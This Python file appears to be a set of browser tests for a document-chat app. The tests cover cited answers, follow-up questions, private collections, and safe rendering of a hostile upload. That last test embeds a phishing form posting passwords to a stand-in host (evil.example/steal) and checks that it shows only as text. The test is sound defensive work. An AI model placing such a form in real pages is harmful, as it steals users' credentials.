"""Chromium clicks through the chatbot: upload a file, ingest it, ask, see each sentence's source;
ask a follow-up and get an answer about the earlier subject."""
from __future__ import annotations

import pytest
from browser_helpers import wait_for_uploaded
from net_helpers import free_port


@pytest.fixture
def chatbot_url(data_dir, monkeypatch):
    from apps.chatbot.app import build_app
    from core.config import reset_settings

    monkeypatch.setenv("GENAI_LLM_MAX_NEW_TOKENS", "24")  # a short answer is enough to see it cited
    reset_settings()

    demo = build_app().queue()
    port = free_port(8500, 8600)
    demo.launch(prevent_thread_lock=True, server_name="127.0.0.1", server_port=port, quiet=True)
    yield f"http://127.0.0.1:{port}"
    demo.close()


@pytest.mark.browser
@pytest.mark.slow
def test_upload_ask_and_see_cited_answer(page, chatbot_url, tmp_path):
    doc = tmp_path / "ferry_timetable.md"
    doc.write_text("# Ferry timetable\n\nThe ferry to Skerrit Island leaves at 7:15 every morning "
                   "from pier four. Tickets cost 12 euros.\n", encoding="utf-8")
    page.goto(chatbot_url)
    page.locator("#collection input").fill("ferries")
    page.locator("#collection input").press("Enter")
    page.locator("#upload input[type=file]").set_input_files(str(doc))
    wait_for_uploaded(page, "ferry_timetable.md")
    page.locator("#ingest").click()
    page.locator("#ingest-status").get_by_text("ferry_timetable.md — added").wait_for(timeout=180_000)
    page.locator("#question textarea").fill("When does the ferry leave?")
    page.locator("#ask").click()
    chat = page.locator("#chat")
    sources = page.locator("#sentence-sources")
    try:
        sources.get_by_text("sentences supported").wait_for(timeout=400_000)
    finally:
        page.screenshot(path=str(tmp_path / "chatbot-answer.png"), full_page=True)
    text = chat.inner_text()
    assert "[1]" in text and "7:15" in text and "100% of sentences supported" in text
    # hovering a sentence names its source; the sources panel shows the passage with the span marked
    assert "ferry_timetable.md" in chat.locator(".sent").first.get_attribute("title")
    sources.locator("details summary").first.click()
    assert "7:15" in sources.locator("details mark").first.inner_text()
    # the upload box was emptied, so a second ingest can't resend the file
    assert page.locator("#upload").get_by_text("ferry_timetable.md").count() == 0
    # picking a sentence shows its passage in context, escaped, with the span highlighted
    page.locator("#cite-pick label").first.click()
    page.locator("#context-view mark").get_by_text("pier four").wait_for(timeout=30_000)
    assert "#" not in page.locator("#context-view mark").first.inner_text()


@pytest.mark.browser
@pytest.mark.slow
def test_follow_up_question_answers_about_the_earlier_subject(page, chatbot_url, tmp_path):
    doc = tmp_path / "handbook.md"
    doc.write_text("# Staff handbook\n\nEmployees receive 25 days of paid leave per year. Unused leave days "
                   "expire on 31 March of the following year.\n\nTeam meetings take place every Tuesday.\n",
                   encoding="utf-8")
    page.goto(chatbot_url)
    page.locator("#collection input").fill("handbook")
    page.locator("#collection input").press("Enter")
    page.locator("#upload input[type=file]").set_input_files(str(doc))
    wait_for_uploaded(page, "handbook.md")
    page.locator("#ingest").click()
    page.locator("#ingest-status").get_by_text("handbook.md — added").wait_for(timeout=180_000)
    sources = page.locator("#sentence-sources")
    page.locator("#question textarea").fill("How many days of paid leave do employees get?")
    page.locator("#ask").click()
    sources.get_by_text("sentences supported").wait_for(timeout=400_000)
    assert "25 days" in page.locator("#chat").inner_text()
    page.locator("#question textarea").fill("and when do they expire?")
    page.locator("#ask").click()
    # the first answer may quote the expiry sentence too, so look only at the second bot message
    page.locator("#chat [data-testid=bot]").nth(1).get_by_text("31 March").first.wait_for(timeout=400_000)
    page.screenshot(path=str(tmp_path / "chatbot-follow-up.png"), full_page=True)
    # the trace shows the standalone question built from the earlier turn (Gradio 6 list content)
    page.get_by_text("Trace: standalone question").click()
    # the trace renders once its accordion is open, a moment after the click
    page.wait_for_function("s => document.documentElement.outerHTML.includes(s)", timeout=30_000,
                           arg="How many days of paid leave do employees get? and when do they expire?")


@pytest.mark.browser
@pytest.mark.slow
def test_a_hostile_document_and_file_name_render_as_text(page, chatbot_url, tmp_path):
    """A phishing form in a document and markup in a file name show literally, nowhere live."""
    name = "minutes`<b>bold`.md"
    doc = tmp_path / name
    form = ('<form action="https://evil.example/steal"><input type="password" name="pw">'
            '<button>Log in</button></form>')
    doc.write_text(f"# Minutes\n\nThe ferry leaves at 7:15 from pier four. {form}\n", encoding="utf-8")
    page.goto(chatbot_url)
    page.locator("#collection input").fill("hostile")
    page.locator("#collection input").press("Enter")
    page.locator("#upload input[type=file]").set_input_files(str(doc))
    wait_for_uploaded(page, "minutes")
    page.locator("#ingest").click()
    status = page.locator("#ingest-status")
    status.get_by_text("— added").wait_for(timeout=180_000)
    # Gradio keeps only safe characters of an uploaded name; what is left shows as text, no <b> element
    assert "bold.md — added" in status.inner_text() and status.locator("b").count() == 0
    page.locator("#question textarea").fill("When does the ferry leave from pier four?")
    page.locator("#ask").click()
    page.locator("#sentence-sources").get_by_text("sentences supported").wait_for(timeout=400_000)
    page.locator("#cite-pick label").last.click()  # the whole passage, form included
    context = page.locator("#context-view")
    context.get_by_text("Log in").first.wait_for(timeout=30_000)
    page.screenshot(path=str(tmp_path / "hostile-document.png"), full_page=True)
    for where in ("#context-view", "#sentence-sources", "#chat", "#ingest-status"):
        for tag in ("form", "input[type=password]", "button:has-text('Log in')"):
            assert page.locator(f"{where} {tag}").count() == 0, (where, tag)
    assert '<input type="password"' in context.inner_text()  # shown, as text


@pytest.mark.browser
@pytest.mark.slow
def test_hosted_private_collection_comes_back_after_a_reload_and_not_elsewhere(browser, data_dir, monkeypatch,
                                                                               tmp_path):
    from apps.chatbot.app import build_app
    from core.caches import reset_all
    from core.config import reset_settings

    monkeypatch.setenv("GENAI_HOSTED", "true")
    reset_settings()
    reset_all()
    demo = build_app().queue()
    port = free_port(8500, 8600)
    demo.launch(prevent_thread_lock=True, server_name="127.0.0.1", server_port=port, quiet=True)
    url = f"http://127.0.0.1:{port}"
    doc = tmp_path / "recipes.md"
    doc.write_text("# Recipes\n\nThe pancake batter rests for twenty minutes.\n", encoding="utf-8")
    try:
        mine = browser.new_context()
        page = mine.new_page()
        page.goto(url)
        page.wait_for_function("localStorage.getItem('genai-visitor') !== null")  # the browser's secret id
        page.locator("#collection input").fill("kitchen")
        page.locator("#collection input").press("Enter")
        page.locator("#upload input[type=file]").set_input_files(str(doc))
        # the upload runs in the background: under load, a click before it finishes sends no file
        wait_for_uploaded(page, "recipes.md")
        page.locator("#ingest").click()
        page.locator("#ingest-status").get_by_text("recipes.md — added").wait_for(timeout=180_000)
        page.reload()
        page.locator("#collection input").click()
        page.get_by_role("option", name="kitchen (private)").wait_for(timeout=30_000)
        page.screenshot(path=str(tmp_path / "hosted-private.png"), full_page=True)
        # another browser (its own local storage) does not see it
        other = browser.new_context().new_page()
        other.goto(url)
        other.locator("#collection input").click()
        other.get_by_role("option", name="sample (shared)").wait_for(timeout=30_000)
        assert other.get_by_role("option", name="kitchen (private)").count() == 0
    finally:
        demo.close()
        reset_all()
